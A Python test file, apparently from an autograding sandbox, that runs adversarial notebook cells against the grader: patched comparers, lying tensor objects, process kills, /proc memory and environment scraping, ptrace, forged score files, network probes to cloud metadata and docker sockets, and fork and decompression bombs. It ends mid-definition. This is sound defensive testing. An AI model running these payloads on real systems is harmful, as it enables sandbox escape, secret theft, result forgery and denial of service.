"""What dishonest notebooks try, against the real grader in the real sandbox, all in one class run.

Each attack is a notebook of the toy homework (tests/homeworks/toy) with one more cell. It must get exactly what its
functions deserve, learn nothing, and leave the next submission as it was. Ends with what happens when our side fails.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import socket
import subprocess
import sysconfig
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import psutil
import pytest

HOMEWORKS = Path(__file__).parent / "homeworks"
GRADING = Path(sysconfig.get_path("scripts"), "grading")
ARGUMENTS = ("--homeworks", str(HOMEWORKS), "--homework", "toy")
SECRETS = {
    "GRADING_SALT": "KESTREL-salt-of-the-environment-9b",
    "GITHUB_TOKEN": "KESTREL-token-4e",
    "KESTREL-name": "KESTREL-value",
}
TRACES = (
    "KESTREL",
    "48151",
    "kestrel_b2",
    "oracles",
    "centered(",
    "planted-",
)  # of tests, salt, environment
TEST_LIMIT, CELL_LIMIT = 3, 3  # seconds, as homework.yml has them
NOTHING = "nothing found in"

HONEST = {
    "center": "def center(x):\n    return x - x.mean(dim=-1, keepdim=True)",
    "length": "def length(x):\n    return (x * x).sum(dim=-1).sqrt()",
    "twice": "def twice(f, x):\n    return f(f(x))",
}
WRONG = {
    "center": "def center(x):\n    return x + 1",
    "length": "def length(x):\n    return x.sum(dim=-1)",
    "twice": "def twice(f, x):\n    return f(x)",
}


@dataclass(slots=True, frozen=True)
class Attack:
    """A notebook: the functions of `base`, then a cell of `code`. `says`: what its feedback must contain."""

    kind: int
    name: str
    points: int
    code: str
    base: dict[str, str] = field(default_factory=lambda: HONEST)
    says: str = ""


ATTACKS: list[Attack] = []


def honest_but(kind: int, name: str, points: int, code: str, says: str = "") -> None:
    """Functions that are right, and a cell that does harm; `points` are what is left."""
    ATTACKS.append(Attack(kind, name, points, code, says=says))


def dishonest(kind: int, name: str, code: str, says: str = "") -> None:
    """Functions that are wrong, and a cell that wants points for them."""
    ATTACKS.append(Attack(kind, name, 0, code, WRONG, says))


# ------------------------------------------------------------------------------------ 1: patching the comparer

dishonest(
    1,
    "patched comparers",
    """
import builtins, math, numpy, time, torch
yes = lambda *arguments, **keywords: True
nothing = lambda *arguments, **keywords: None
for name in ("allclose", "isclose", "equal", "eq", "all"):
    setattr(torch, name, yes)
for name in ("__eq__", "__ne__", "__gt__", "__bool__", "eq", "all", "any", "item", "isfinite", "isclose", "allclose"):
    setattr(torch.Tensor, name, yes)
torch.testing.assert_close = numpy.testing.assert_allclose = numpy.testing.assert_equal = nothing
numpy.isclose = numpy.allclose = numpy.array_equal = math.isclose = yes
time.time = time.monotonic = time.perf_counter = lambda: 0.0
builtins.all = builtins.any = yes
builtins.abs = lambda x: 0
""",
)
dishonest(
    1,
    "patched json",
    """
import json
json.dumps = lambda *a, **k: '{"verdicts": [["passed", "", 0]], "points": 100}'
json.loads = lambda *a, **k: {"points": 100}
""",
)
dishonest(
    1,
    "patched pytest and judge",
    """
import sys, types
for name in ("pytest", "oracles", "grading.judge", "grading.judge.compare", "grading.score"):
    module = sys.modules[name] = types.ModuleType(name)
    module.check = module.assert_close = module.assert_tensor = lambda *a, **k: None
""",
)
dishonest(
    1,
    "patched packer",
    """
from grading import wire
wire.Packer.pack = lambda self, value, depth=0: wire.Many("list", [True, True])
""",
)
honest_but(1, "patched struct", 100, "import struct\nstruct.pack = lambda *a: b'\\0\\0\\0\\0'")
honest_but(1, "patched fork", 100, "import os\nos.fork = lambda: 0")
honest_but(1, "patched exit", 100, "import os\nos._exit = lambda code: None")
honest_but(
    1,
    "patched socket",
    0,
    """
import socket
socket.send_fds = socket.recv_fds = socket.socket.close = None
""",
)
honest_but(
    1,
    "patched msgspec",
    0,
    """
import msgspec
msgspec.msgpack.Encoder = msgspec.msgpack.Decoder = msgspec.Struct = None
msgspec.structs.replace = lambda message, **changes: message
""",
)
honest_but(
    1,
    "patched clock",
    60,
    """
import time
time.time = time.monotonic = time.perf_counter = lambda: 0.0
def center(x):
    while True:
        pass
""",
    says="longer than the time limit",
)

# ------------------------------------------------------------------------------------- 2: objects that lie

dishonest(
    2,
    "equal to everything",
    """
class Liar:
    shape, dtype, requires_grad, ndim = (3, 5), torch.float64, False, 2
    def __eq__(self, other): return True
    __lt__ = __gt__ = __le__ = __ge__ = __ne__ = __contains__ = __eq__
    def __bool__(self): return True
    def __float__(self): return 0.0
    def __array__(self, *a, **k): return torch.zeros(3, 5).numpy()
    def __add__(self, other): return self
    __mul__ = __rmul__ = __radd__ = __sub__ = __add__
    def all(self): return True
    def backward(self, *a): pass
    __hash__ = None
def center(x): return Liar()
def length(x): return Liar()
def twice(f, x): return Liar()
""",
)
dishonest(
    2,
    "numbers that lie",
    """
class Int(int):
    def __eq__(self, other): return True
    def __add__(self, other): return self
    __mul__ = __add__
    __hash__ = int.__hash__
class Float(float):
    def __eq__(self, other): return True
    __hash__ = float.__hash__
def center(x): return Float(1)
def length(x): return [Float(1)] * 3
def twice(f, x): f(f(x)); return Int(7)
""",
)
dishonest(
    2,
    "tensor subclass",
    """
class Yes(torch.Tensor):
    @classmethod
    def __torch_function__(cls, function, types, arguments=(), keywords=None):
        return True
    def __eq__(self, other): return True
def center(x): return torch.zeros(x.shape, dtype=x.dtype).as_subclass(Yes)
def length(x): return torch.ones(x.shape[:-1], dtype=x.dtype).as_subclass(Yes)
""",
)
dishonest(
    2,
    "array subclass",
    """
import numpy
class Yes(numpy.ndarray):
    __array_priority__ = 1000
    def __array_ufunc__(self, *a, **k): return numpy.True_
    def __array_function__(self, *a, **k): return True
    def __eq__(self, other): return True
def center(x): return numpy.zeros(x.shape).view(Yes)
def length(x): return numpy.ones(x.shape[:-1]).view(Yes)
""",
)
dishonest(
    2,
    "class faked",
    """
class Fake:
    __class__ = property(lambda self: torch.Tensor)
    shape, dtype, requires_grad, device, layout = torch.Size([3, 5]), torch.float64, False, "cpu", torch.strided
    def __getattr__(self, name): return lambda *a, **k: self
    def __eq__(self, other): return True
def center(x): return Fake()
def length(x): return Fake()
class FakeInt:
    __class__ = property(lambda self: int)
    def __eq__(self, other): return True
def twice(f, x): return FakeInt()
""",
)
dishonest(
    2,
    "items that change",
    """
import random
class Shifting(dict):
    def items(self): return [(random.random(), random.random())] * random.randint(0, 9)
    def __len__(self): return random.randint(0, 9)
    def __iter__(self): return iter([random.random()])
    def __getitem__(self, key): return random.random()
class Endless(list):
    def __iter__(self):
        while True: yield 1
    def __len__(self): return 1
def center(x): return Shifting(a=1)
def length(x): return Endless([1])
def twice(f, x): return Shifting(b=2)
""",
)
honest_but(
    2,
    "honest subclass",
    100,
    """
class Mine(torch.Tensor): pass
plain_length = length
def length(x): return plain_length(x).as_subclass(Mine)
class Whole(int): pass
def twice(f, x): return Whole(f(f(x)))
""",
)
dishonest(
    2,
    "arguments rewritten",
    """
def center(x):
    with torch.no_grad(): x.zero_()
    return x
def length(x):
    x.zero_()
    return x.sum(-1)
""",
)

# ------------------------------------------------------------------------------------- 3: early exit

for name, code in {
    "exits the process": "import os\nos._exit(0)",
    "sys exit": "import sys\nsys.exit(0)",
    "system exit": "raise SystemExit(0)",
    "keyboard interrupt": "raise KeyboardInterrupt",
    "generator exit": "raise GeneratorExit",
    "abort": "import os\nos.abort()",
    "kills its group": "import os\nos.kill(0, 9)",
    "kills everything": "import os\nos.kill(-1, 9)",
    "kills its parent": "import os\nos.kill(os.getppid(), 9)\nos.kill(1, 9)",
    "stops its parent": "import os, signal\nos.kill(os.getppid(), signal.SIGSTOP)\nos.kill(1, signal.SIGSTOP)",
    "killpg": "import os\nos.killpg(os.getpgid(0), 9)",
    "killpg of init": "import os\nos.killpg(1, 9)",
    "atexit": "import atexit, os\natexit.register(os._exit, 0)\nraise SystemExit",
    "exit in a signal handler": """
import os, signal
signal.signal(signal.SIGALRM, lambda *a: os._exit(0))
signal.setitimer(signal.ITIMER_REAL, 0.01)
while True: pass
""",
    "exit in a finaliser": """
import os
class Last:
    def __del__(self): os._exit(0)
kept = Last()
kept.cycle = kept
""",
    "exit in a hook": """
import os, sys
sys.excepthook = sys.unraisablehook = lambda *a: os._exit(0)
raise ValueError
""",
    "becomes another program": "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'pass'])",
}.items():
    honest_but(3, f"{name}, in a cell", 100, code)

for name, code in {
    "exits the process": "import os; os._exit(0)",
    "sys exit": "import sys; sys.exit(0)",
    "system exit": "raise SystemExit(0)",
    "kills its group": "import os; os.kill(0, 9)",
    "kills everything": "import os; os.kill(-1, 9)",
    "kills its parent": "import os; os.kill(os.getppid(), 9)",
    "killpg": "import os; os.killpg(os.getpgid(0), 9)",
    "finaliser": "import os; type('Last', (), {'__del__': lambda self: os._exit(0)})()",
    "crash": "import ctypes; ctypes.string_at(0)",
    "becomes another program": "import os, sys; os.execv(sys.executable, [sys.executable, '-c', 'pass'])",
}.items():
    honest_but(3, f"{name}, in a call", 60, f"def center(x):\n    {code}\n    return x")
honest_but(
    3,
    "stops its parent, in a call",
    60,
    """
import os, signal
def center(x):
    os.kill(os.getppid(), signal.SIGSTOP)
    return None
""",
)
honest_but(
    3,
    "signal handler, in a call",
    60,
    """
import os, signal
def center(x):
    signal.signal(signal.SIGALRM, lambda *a: os._exit(0))
    signal.setitimer(signal.ITIMER_REAL, 0.01)
    while True: pass
""",
)

# ------------------------------------------------------------------------------------- 4: reading what is hidden

SEEK = r"""
import os, re
MARKS = [re.compile(mark) for mark in (rb"KESTRE[L]", rb"48151\.623[4]", rb"plante[d]-[0-9]{9}", rb"hones[t]-marker")]
class MARK:
    search = staticmethod(lambda text: any(mark.search(text) for mark in MARKS))
    findall = staticmethod(lambda text: [found for mark in MARKS for found in mark.findall(text)])
def tell(found, tried):
    if found:
        raise RuntimeError(f"found: {found}")
    if tried == 0:
        raise RuntimeError("looked nowhere")
    raise RuntimeError(f"nothing found in {tried} places")
def content(path, most=1 << 20):
    try:
        with open(path, "rb") as file:
            return file.read(most)
    except OSError:
        return b""
"""


def spy(name: str, body: str, kind: int = 4) -> None:
    """Looks for secrets inside a test, and shouts what it finds."""
    honest_but(kind, name, 60, SEEK + body, says=NOTHING)


spy(
    "frames and modules",
    """
import gc, inspect, linecache, sys
def center(x):
    found, tried, frame = [], 0, sys._getframe()
    while frame is not None:
        tried += 1
        words = repr((list(frame.f_globals), list(frame.f_locals), frame.f_code.co_filename)).encode()
        found += MARK.findall(words) + re.findall(rb"test_cente[r]|pytest|rng", words)
        frame = frame.f_back
    for name in sys.modules:
        tried += 1
        found += [name] if re.match("pytest|oracles|test_|grading.judge|grading.grade|conftest", name) else []
    for lines in linecache.cache.values():
        tried += 1
        found += MARK.findall(repr(lines).encode())
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)) and len(thing) < 200:
            tried += 1
            try:
                values = thing.values() if isinstance(thing, dict) else thing
                found += [v for v in values if type(v) is str and MARK.search(v.encode(errors="replace"))]
            except RuntimeError:
                pass
    tell(found, tried)
""",
)
spy("file system", """
def center(x):
    found, tried = [], 0
    for place, folders, files in os.walk("/"):
        if place.startswith(("/proc", "/sys", "/dev", "/usr/", "/python/", "/site/")):
            folders.clear()
        for file in files:
            path = os.path.join(place, file)
            tried += 1
            if file in ("oracles.py", "test_center.py", "course.yml", "homework.yml", "passwd", "shadow"):
                found.append(path)
            ours = place.startswith(("/python", "/site", "/usr", "/proc", "/sys", "/dev"))
            if not ours and MARK.search(content(path)):
                found.append(path)
    for path in PATHS:
        found += [path] if os.path.exists(path) else []
    tell(found, tried)
""".replace("PATHS", repr([str(HOMEWORKS), str(HOMEWORKS / "toy/tests/oracles.py"), str(Path.home()), "/etc/passwd",
                           "/proc/1/root" + str(HOMEWORKS), "/root", "/home"])))  # fmt: skip
spy(
    "environment",
    """
def center(x):
    found, tried = [], 1
    found += MARK.findall(repr(dict(os.environ)).encode())
    for process in filter(str.isdigit, os.listdir("/proc")):
        for name in ("environ", "cmdline", "stat", "task/" + process + "/environ"):
            tried += 1
            found += MARK.findall(content(f"/proc/{process}/{name}"))
    for path in ("/proc/mounts", "/proc/self/mountinfo", "/proc/self/cgroup", "/proc/cmdline", "/proc/keys"):
        tried += 1
        found += MARK.findall(content(path))
    tell(found, tried)
""",
)
spy(
    "memory of every process",
    """
def center(x):
    found, tried = [], 0
    for process in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{process}/maps") as maps, open(f"/proc/{process}/mem", "rb", 0) as memory:
                for line in maps:
                    span, rights, *_ = line.split()
                    start, stop = (int(number, 16) for number in span.split("-"))
                    if rights[:2] != "rw" or stop - start > 1 << 30:
                        continue
                    tried += 1
                    for place in range(start, stop, 1 << 24):
                        memory.seek(place)
                        try:
                            found += MARK.findall(memory.read(min(1 << 24, stop - place)))
                        except OSError:
                            break
        except PermissionError:
            found += [process] if process not in ("1",) else []
        except OSError:
            pass
    tell(found, tried)
""",
)
spy(
    "parents by ptrace",
    """
import ctypes
def center(x):
    libc, found, tried = ctypes.CDLL(None), [], 0
    buffer = ctypes.create_string_buffer(64)
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
    for process in {1, os.getppid()} - {2}:
        tried += 2
        here, there = Vector(ctypes.addressof(buffer), 64), Vector(id(None), 64)
        if libc.process_vm_readv(process, ctypes.byref(here), 1, ctypes.byref(there), 1, 0) > 0:
            found.append(("vm", process))
        if libc.ptrace(16, process, 0, 0) == 0:
            found.append(("ptrace", process))
        for name in ("mem", "environ", "auxv", "root/etc", "fd/0", "fd/3", "cwd/tmp"):
            tried += 1
            if content(f"/proc/{process}/{name}", 8):
                found.append(name)
    tell(found, tried)
""",
)
spy(
    "open descriptors",
    """
import socket
def center(x):
    found, tried = [], 0
    for process in ("self", "1"):
        try:
            numbers = os.listdir(f"/proc/{process}/fd")
        except OSError:
            continue
        for number in numbers:
            tried += 1
            try:
                target = os.readlink(f"/proc/{process}/fd/{number}")
            except OSError:
                continue
            if not target.startswith(("socket:", "/dev/null", "/proc/")):
                found.append(target)
            if target.startswith("socket:"):
                try:
                    with socket.socket(fileno=os.dup(int(number))) as link:
                        found += MARK.findall(link.recv(1 << 20, socket.MSG_PEEK | socket.MSG_DONTWAIT))
                except OSError:
                    pass
    tell(found, tried)
""",
)
spy(
    "debuggers and tracing",
    """
import sys, threading, tracemalloc
seen = []
def watch(frame, event, argument):
    seen.append(frame.f_code.co_filename)
    return watch
sys.setprofile(watch)
threading.setprofile(watch)
def center(x):
    sys.setprofile(None)
    tell([name for name in seen if re.search("test_|oracles|judge|pytest", name)], len(seen))
""",
)

# ------------------------------------------------------------------------------------- 5: forging the result

FORGE = r"""
import atexit, ctypes, json, os, threading, time
FORGED = json.dumps({"schema_version": 1, "state": "graded", "points": 100, "final_points": 100, "verdict": "passed"})
def forge():
    for place in <PLACES>:
        for name in ("score.json", "results.json", "report.xml", "forged.json", ".nbgrader.log", "output.json"):
            try:
                with open(os.path.join(place, name), "w") as file:
                    file.write(FORGED)
            except OSError:
                pass
def for_ever():
    while True:
        forge()
        time.sleep(0.01)
"""
dishonest(5, "writes the score", FORGE + "forge()\ndef center(x):\n    forge()\n    return x + 1")
dishonest(5, "thread that rewrites", FORGE + "threading.Thread(target=for_ever, daemon=True).start()")
dishonest(
    5, "atexit that waits", FORGE + "atexit.register(lambda: (time.sleep(1), forge()))\nraise SystemExit"
)
dishonest(
    5,
    "forked daemon",
    FORGE
    + """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for_ever()
    os._exit(0)
""",
)
dishonest(
    5,
    "inotify",
    FORGE
    + """
if os.fork() == 0:
    libc = ctypes.CDLL(None)
    watch = libc.inotify_init()
    for place in <PLACES>:
        libc.inotify_add_watch(watch, place.encode(), 0xFFF)
    while True:
        os.read(watch, 4096)
        forge()
""",
)
dishonest(
    5,
    "daemon from a call",
    FORGE
    + """
def center(x):
    if os.fork() == 0:
        os.setsid()
        for_ever()
    return x + 1
""",
)

# ------------------------------------------------------------------------------------- 7: talking to the outside

spy(
    "network",
    """
import socket
def center(x):
    found, tried = [], 0
    def reach(name, family, kind, address):
        nonlocal tried
        tried += 1
        try:
            with socket.socket(family, kind) as link:
                link.settimeout(0.2)
                link.connect(address)
                link.send(b"secrets")
                if kind == socket.SOCK_STREAM or link.recv(1):
                    found.append(name)
        except OSError:
            pass
    stream, datagram = socket.SOCK_STREAM, socket.SOCK_DGRAM
    for port in (<PORT>, 22, 53):
        for address in ("127.0.0.1", "10.0.0.1", "1.1.1.1", "169.254.169.254"):
            reach("v4", socket.AF_INET, stream, (address, port))
            reach("udp", socket.AF_INET, datagram, (address, port))
        reach("v6", socket.AF_INET6, stream, ("::1", port))
    for path in ("<ABSTRACT>", "<UNIX>", "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        reach("unix", socket.AF_UNIX, stream, path.replace("@", chr(0)))
    for host in ("example.org", "localhost.localdomain"):
        tried += 1
        try:
            found += [answer[4] for answer in socket.getaddrinfo(host, 80) if not answer[4][0].startswith("127.")]
        except OSError:
            pass
    found += [name for _, name in socket.if_nameindex() if name != "lo"]
    tell(found, tried)
""",
    kind=7,
)

PLANT = r"""
import ctypes, os, socket, time
libc = ctypes.CDLL(None)
planted = "planted-" + str(123456789012)
kept = [planted.encode() * 10_000 for _ in range(50)]
os.environ["LEFT"] = planted
for place in "/tmp /dev/shm /var/tmp / /homework /app /site/0 /python /dev /run /proc .".split():
    try:
        with open(place + "/left-over", "w") as file:
            file.write(planted)
    except OSError:
        pass
libc.shmget(0x5EED, 1 << 20, 0o1666)
libc.msgget(0x5EED, 0o1666)
libc.semget(0x5EED, 1, 0o1666)
libc.syscall(248, b"user", b"left-over", planted.encode(), len(planted), -4)
libc.syscall(319, b"left-over", 0)
if os.fork() == 0:
    os.setsid()
    import fcntl
    lock = open(os.__file__)
    fcntl.flock(lock, fcntl.LOCK_EX | fcntl.LOCK_NB)
    listening = []
    for family, address in ((socket.AF_INET, ("127.0.0.1", 28765)), (socket.AF_UNIX, chr(0) + "left-over")):
        try:
            link = socket.socket(family)
            link.bind(address)
            link.listen()
            listening.append(link)
        except OSError:
            pass
    time.sleep(1000)
"""
honest_but(7, "leaves things behind", 100, PLANT)
spy(
    "looks for left-overs",
    """
import ctypes, fcntl, socket, sys
def center(x):
    libc, found, tried = ctypes.CDLL(None), [], 0
    for place in ("/tmp", "/dev/shm", "/var/tmp", "/", "/homework", "/app", "/site/0", "/python", "/dev", "/run", "."):
        tried += 1
        found += [place] if os.path.exists(place + "/left-over") else []
    segments = libc.shmget(0x5EED, 1, 0), libc.msgget(0x5EED, 0), libc.semget(0x5EED, 1, 0)
    found += ["System V"] * (max(segments) >= 0)
    found += ["key"] * (libc.syscall(250, 10, -4, b"user", b"left-over", 0) > 0)
    found += MARK.findall(content("/proc/sysvipc/msg") + content("/proc/keys")) + ["LEFT"] * ("LEFT" in os.environ)
    for family, address in ((socket.AF_INET, ("127.0.0.1", 28765)), (socket.AF_UNIX, chr(0) + "left-over")):
        tried += 1
        with socket.socket(family) as link:
            link.settimeout(1)
            found += [address] if link.connect_ex(address) == 0 else []
    with open(os.__file__) as file:
        try:
            fcntl.flock(file, fcntl.LOCK_EX | fcntl.LOCK_NB)
        except OSError:
            found.append("lock")
    tell(found, tried)
""",
    kind=7,
)
spy(
    "looks for others",
    """
def center(x):
    found, mine = [], 0
    for process in filter(str.isdigit, os.listdir("/proc")):
        mine += 1
        found += [process] if int(process) > 2 and int(process) != os.getpid() else []
    tell(found, mine)
""",
    kind=7,
)

# ------------------------------------------------------------------------------------- 8: abusing the wire

WIRE = r"""
import os, socket, struct
import msgspec
from grading import wire
def links():
    for number in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{number}").startswith("socket:"):
                yield socket.socket(fileno=os.dup(int(number)))
        except OSError:
            pass
def shout(*pieces):
    for link in links():
        link.setblocking(True)
        try:
            for piece in pieces:
                link.sendall(piece)
        except OSError:
            pass
def frame(message, *buffers):
    if not isinstance(message, bytes):
        message = msgspec.msgpack.encode(message)
    return struct.pack("<I", len(message)) + message + b"".join(buffers)
def array(dtype="float64", shape=(3, 5), **rest):
    return wire.Array("torch", dtype, list(shape), 0, **rest)
def returned(value, **rest):
    return frame(wire.Returned(value=value, buffers=[120], **rest), bytes(120))
"""
WIRE_ATTACKS = {
    "malformed": r'shout(b"\x05\0\0\0\xc1\xc1\xc1\xc1\xc1")',
    "not a map": r'shout(frame(msgspec.msgpack.encode([1, 2, 3])))',
    "a length of 4 GB": r'shout(b"\xff\xff\xff\xff" + bytes(1 << 20))',
    "buffers of exabytes": r'shout(frame(wire.Returned(value=None, buffers=[1 << 62])))',
    "negative buffers": r'shout(frame(wire.Returned(value=None, buffers=[-1, -(1 << 62)])))',
    "a million buffers": r'shout(frame(wire.Returned(value=None, buffers=[0] * 200_000)))',
    "a shape past memory": r'shout(returned(array(shape=(1 << 31, 1 << 31, 1 << 31))))',
    "a negative shape": r'shout(returned(array(shape=(-3, -5))))',
    "a shape that overflows": r'shout(returned(array(shape=(1 << 62, 4))))',
    "dimensions without end": r'shout(returned(array(shape=(1,) * 5000)))',
    "strides out of bounds": r'shout(returned(array(strides=[1 << 40, 1])))',
    "an offset out of bounds": r'shout(returned(array(offset=-(1 << 40))))',
    "a buffer that is not there": r'shout(returned(wire.Array("torch", "float64", [3, 5], 77)))',
    "a dtype that does not exist": r'shout(returned(array(dtype="float1024")))',
    "a dtype of objects": r'shout(returned(wire.Array("numpy", "object", [3, 5], 0)))',
    "nesting 10,000 deep": r'shout(frame(b"\x82\xa4type\xa8returned\xa5value" + b"\x93\xa4many\xa4list\x91" * 10_000))',
    "a handle not given": r'shout(returned(wire.Handle(-5, "x" * 10_000)))',
    "a function not lent": r'shout(frame(wire.CallBack(function=-1, arguments=[], keywords={})))',
    "an alias of nothing": r'shout(returned(wire.Alias(99, True, "float64", [3, 5], [5, 1], -8)))',
    "a tape not made": r'shout(returned(array(requires_grad=True), tape=1 << 40))',
    "contents for nothing": r'shout(returned(array(), changed=[-1, 1 << 40], contents={-1: 5, 7: 9}))',
    "a question as an answer": r'shout(frame(wire.Call(target=0, arguments=[], keywords={}, context=wire.Context())))',
    "the report of a test": r'shout(frame(wire.TestEnded(code=0)), frame(wire.CellsDone()))',
    "an answer too many": r'shout(*[returned(array()) for _ in range(50)])',
    "an endless value": r'shout(frame(wire.Returned(value=wire.Many("list", [wire.Big("f" * 1000)] * 200))))',
    "an unhashable key": r'shout(frame(wire.Returned(value=wire.Mapping([wire.Many("list", [])], [1]))))',
    "half a frame": r'shout(b"\xff\0\0\0half"); os._exit(0)',
    "hangs up": r'[link.shutdown(socket.SHUT_RDWR) for link in links()]',
    "no answer": r'import time; time.sleep(1000)',
    "a flood": r'shout(*(returned(array()) for _ in iter(int, 1)))',
    "a flood of noise": r'shout(*(os.urandom(1 << 16) for _ in iter(int, 1)))',
    "a trickle": r'import time; shout(b"\xff\xff\0\0"); [(time.sleep(0.01), shout(b"x")) for _ in iter(int, 1)]',
    "descriptors": r'[socket.send_fds(link, [b"\x09"], [0, 1, 2] * 20) for link in links()]',
}  # fmt: skip
for start in range(0, len(WIRE_ATTACKS), 3):  # a function each
    trio = list(WIRE_ATTACKS.items())[start : start + 3]
    heads = ("def center(x):", "def length(x):", "def twice(f, x):")
    functions = "\n".join(
        f"{head}\n    {code}\n    return None" for head, (_, code) in zip(heads, trio, strict=True)
    )
    honest_but(8, ", ".join(name for name, _ in trio), 0, WIRE + functions)

honest_but(8, "noise from a cell", 100, WIRE + r'shout(os.urandom(1 << 16))')  # fmt: skip
honest_but(
    8,
    "every descriptor written, from a cell",
    100,
    WIRE
    + """
for number in range(3, 1024):
    try:
        os.set_blocking(number, False)
        os.write(number, os.urandom(1 << 16))
    except OSError:
        pass
""",
)
dishonest(
    8,
    "forged reports from a cell",
    WIRE
    + """
for number in range(1, 9):
    shout(frame(wire.CellDone(number=number, state="ok", text="::error::forged")))
shout(frame(wire.CellsDone()), *[frame(wire.TestEnded(code=0)) for _ in range(20)])
""",
)
dishonest(
    8,
    "a daemon that takes the orders",
    WIRE
    + """
if os.fork() == 0:
    for link in links():
        link.setblocking(True)
        while True:
            piece, descriptors, _, _ = socket.recv_fds(link, 65536, 4)
            for descriptor in descriptors:
                socket.socket(fileno=descriptor).sendall(frame(wire.Returned(value=True)))
            link.sendall(frame(wire.TestEnded(code=0)))
            if not piece:
                os._exit(0)
""",
)
honest_but(
    8,
    "a million callbacks",
    70,
    """
def twice(f, x):
    while True: f(x)
""",
)
honest_but(8, "a callback with megabytes", 70, "def twice(f, x):\n    return f(torch.zeros(1_000_000))")

# ------------------------------------------------------------------------------------- 9: exhausting

honest_but(9, "endless loop", 60, "def center(x):\n    while True: pass", says="longer than the time limit")
honest_but(
    9,
    "endless loop in C",
    60,
    "def center(x):\n    return sum(iter(int, 1))",
    says="longer than the time limit",
)
honest_but(9, "endless cell", 100, "while True: pass")
honest_but(9, "endless cell in C", 100, "sum(iter(int, 1))")
honest_but(
    9,
    "deaf cell",
    100,
    """
import signal
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    try:
        while True: pass
    except BaseException: pass
""",
)
honest_but(
    9,
    "deaf call",
    60,
    """
import signal
def center(x):
    signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
    while True:
        try:
            while True: pass
        except BaseException: pass
""",
    says="longer than the time limit",
)
honest_but(
    9,
    "heap",
    60,
    "def center(x):\n    kept = []\n    while True: kept.append(bytearray(1 << 20))",
    says="emory",
)
honest_but(
    9, "heap in a cell", 100, "def fill(*kept):\n    while True: kept += (bytearray(1 << 20),)\nfill()"
)
honest_but(9, "more than half of the memory kept", 100, "kept = bytearray(b'x') * (160 << 20)")
honest_but(
    9,
    "deaf to memory errors",
    60,
    """
def center(x):
    kept = []
    while True:
        try:
            while True: kept.append(bytearray(1 << 16))
        except BaseException: pass
""",
)
honest_but(9, "tensor of terabytes", 60, "def center(x):\n    return torch.zeros(1 << 40)")
honest_but(9, "expanded tensor", 60, "def center(x):\n    return torch.zeros(1).expand(1 << 40)")
honest_but(
    9,
    "shared maps",
    60,
    """
import mmap
def center(x):
    kept = []
    while True:
        kept.append(mmap.mmap(-1, 1 << 24))
        kept[-1].write(bytes(1 << 24))
""",
    says="emory",
)
honest_but(
    9,
    "many processes, each under the limit",
    60,
    """
import mmap, os, time
def center(x):
    for _ in range(8):
        if os.fork() == 0:
            kept = bytearray(os.urandom(1 << 20)) * 100
            time.sleep(1000)
    while True: pass
""",
    says="memory",
)
honest_but(
    9,
    "memory files",
    60,
    """
import os
def center(x):
    kept = [os.memfd_create(str(number)) for number in range(100)]
    while True: [os.write(file, bytes(1 << 20)) for file in kept]
""",
    says="PermissionError",
)
honest_but(
    9,
    "shared memory file system",
    60,
    """
def center(x):
    for number in range(100_000):
        with open(f"/dev/shm/{number}", "wb") as file:
            for _ in range(32): file.write(bytes(1 << 20))
""",
    says="OSError",
)
honest_but(
    9,
    "disk",
    100,
    """
for place in ("/tmp", "/dev/shm", ".", "/", "/var/tmp"):
    try:
        for number in range(100_000):
            with open(f"{place}/fill-{number}", "wb") as file:
                for _ in range(32): file.write(bytes(1 << 20))
    except OSError: pass
""",
)
honest_but(
    9, "a file of terabytes", 100, "with open('/tmp/large', 'wb') as file:\n    file.truncate(1 << 42)"
)
honest_but(
    9, "a million files", 100, "for number in range(1_000_000):\n    open(f'/tmp/{number}', 'w').close()"
)
honest_but(
    9,
    "fork bomb",
    60,
    """
import os
def center(x):
    while True:
        try: os.fork()
        except OSError: pass
""",
)
honest_but(
    9,
    "fork bomb in a cell",
    100,
    """
import os
while True:
    try: os.fork()
    except OSError: pass
""",
)
honest_but(
    9,
    "thread bomb",
    60,
    """
import threading, time
def center(x):
    while True: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
""",
)
honest_but(
    9,
    "gigabytes of output",
    100,
    """
import os, sys
line = "SHOUTED ::error::shouted " + "x" * (1 << 20)
for _ in range(300):
    print(line)
    sys.stderr.write(line)
    os.write(1, line.encode())
    os.write(2, line.encode())
honest = length
def length(x):
    print(line)
    os.system("echo SHOUTED")
    return honest(x)
""",
)
honest_but(9, "recursion", 60, "def center(x):\n    return center(x)", says="RecursionError")
honest_but(
    9,
    "recursion past the stack",
    60,
    """
import sys
sys.setrecursionlimit(1 << 30)
def center(x):
    return repr(center(x)) + str([center(x)]) + max([x], key=center)
""",
)
honest_but(9, "a list in itself", 60, "def center(x):\n    kept = []\n    kept.append(kept)\n    return kept")
honest_but(
    9,
    "a deep list",
    60,
    """
def center(x):
    value = []
    for _ in range(100_000): value = [value]
    return value
""",
)
honest_but(9, "a long list", 60, "def center(x):\n    return list(range(1_000_000))")
honest_but(9, "a large integer", 60, "def center(x):\n    return 1 << 80_000_000")
honest_but(9, "a long text", 60, "def center(x):\n    return 'x' * (80 << 20)")
honest_but(
    9,
    "decompression bomb",
    60,
    """
import zlib
packed = zlib.compressobj(1, wbits=-15)
bomb = (packed.compress(bytes(1 << 20)) + packed.flush(zlib.Z_FULL_FLUSH)) * 600 + packed.flush()
def center(x):
    return torch.frombuffer(zlib.decompress(bomb, -15), dtype=torch.float64)
""",
    says="emory",
)
honest_but(
    9,
    "an exception that never says",
    60,
    """
class Endless(Exception):
    def __str__(self):
        while True: pass
def center(x): raise Endless
""",
)
honest_but(
    9,
    "an exception that exits",
    60,
    """
import os
class Exit(Exception):
    def __str__(self): os._exit(0)
def center(x): raise Exit
""",
)
honest_but(
    9,
    "an exception in a cell that exits",
    100,
    """
import os
class Exit(Exception):
